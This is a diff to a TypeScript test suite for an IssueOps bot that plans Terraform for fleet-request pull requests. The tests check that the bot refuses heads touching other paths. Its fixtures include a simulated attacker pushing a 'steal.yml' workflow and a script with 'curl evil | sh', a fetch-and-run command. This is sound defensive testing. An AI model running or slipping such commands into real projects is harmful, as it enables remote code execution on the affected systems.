@@ -1,11 +1,5 @@
-import { FLEETS_REPO, fargateRequest } from '../../helpers/issueops.js';
-import {
-  commentPayload,
-  inMemoryIssueOps,
-  issuesPayload,
-  pullRequestPayload,
-  type InMemoryIssueOps,
-} from '../../helpers/issueops-in-memory.js';
+import { FLEETS_REPO } from '../../helpers/issueops.js';
+import { commentPayload, inMemoryIssueOps, pullRequestPayload, type InMemoryIssueOps } from '../../helpers/issueops-in-memory.js';
 
 /** The pull request of a request holds exactly what was planned: its two generated paths, its validated spec. */
 describe('IssueOps: what a request pull request may hold', () => {
@@ -16,14 +10,6 @@ describe('IssueOps: what a request pull request may hold', () => {
   });
   afterEach(() => env.close());
 
-  async function fileRequest() {
-    const issue = env.github.issueNumber();
-    env.issueOps.onIssue(issuesPayload(issue, fargateRequest('linux-build', 'subnet-0123abcd'), ['fleet-request']));
-    await env.issueOps.idle();
-    const request = await env.store.issueOps.getRequest(FLEETS_REPO, issue);
-    return { issue, pr: request?.prNumber ?? -1 };
-  }
-
   async function pushed(pr: number, files: Record<string, string | null>) {
     const sha = await env.github.push(pr, files, 'mallory');
     await env.issueOps.onPullRequest(pullRequestPayload(pr, 'synchronize'));
@@ -32,7 +18,7 @@ describe('IssueOps: what a request pull request may hold', () => {
   }
 
   it('refuses to plan a head that changes any other path, and says which', async () => {
-    const { pr } = await fileRequest();
+    const { pr } = await env.fileRequest();
     await pushed(pr, { '.github/workflows/steal.yml': 'on: push\n' });
     expect(env.terraform).toHaveLength(1);
     expect(env.github.commentsOn(pr)[0]).toMatch(/changes `\.github\/workflows\/steal\.yml`; a fleet request may change only/);
@@ -44,7 +30,7 @@ describe('IssueOps: what a request pull request may hold', () => {
   });
 
   it('refuses to plan a fleet spec that is not the one validated from the issue, even if the Terraform matches it', async () => {
-    const { pr } = await fileRequest();
+    const { pr } = await env.fileRequest();
     const head = (await env.github.getPull(pr)).headSha;
     const spec = (await env.github.readFile('fleets/linux-build.yml', head)) ?? '';
     await pushed(pr, { 'fleets/linux-build.yml': `${spec}# and a change of mallory's\n` });
@@ -53,14 +39,14 @@ describe('IssueOps: what a request pull request may hold', () => {
   });
 
   it('plans again a head whose files are what the request wrote', async () => {
-    const { pr } = await fileRequest();
+    const { pr } = await env.fileRequest();
     const sha = await pushed(pr, {});
     expect(env.terraform.at(-1)).toBe(`plan linux-build ${sha}`);
     expect((await env.store.issueOps.getRequestByPull(FLEETS_REPO, pr))?.status).toBe('planned');
   });
 
   it('refuses /approve of a plan whose head holds another path, and applies nothing', async () => {
-    const { pr } = await fileRequest();
+    const { pr } = await env.fileRequest();
     const sha = await env.github.push(pr, { 'scripts/run.sh': 'curl evil | sh\n' }, 'mallory');
     // A plan recorded for that head (say, by a version of fleetbot that did not check): the approval checks again.
     const request = await env.store.issueOps.getRequestByPull(FLEETS_REPO, pr);
